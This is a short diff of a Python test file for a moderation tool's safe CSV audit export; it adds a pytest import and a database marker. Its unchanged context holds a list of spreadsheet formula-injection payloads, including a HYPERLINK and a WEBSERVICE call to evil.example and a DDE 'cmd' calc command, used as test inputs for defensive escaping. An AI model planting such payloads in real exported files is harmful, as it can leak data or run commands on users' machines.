@@ -3,6 +3,7 @@ audit CSV through the one writer (moderator.formats.csvsafe), and back in exactl
 
 import csv
 
+import pytest
 from sqlalchemy import select, update
 
 from moderator.formats import decisions as decisions_format
@@ -11,6 +12,8 @@ from moderator.formats.export import export_decisions
 from moderator.moderation.decisions import decide, reply
 from moderator.reading.audit import AuditFilter, export_audit_csv
 from moderator.storage.models import Comment
+
+pytestmark = pytest.mark.both_databases
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "=WEBSERVICE(\"http://evil.example/\")", "+1+cmd", "-2+3", "\t=1", "'already quoted"]
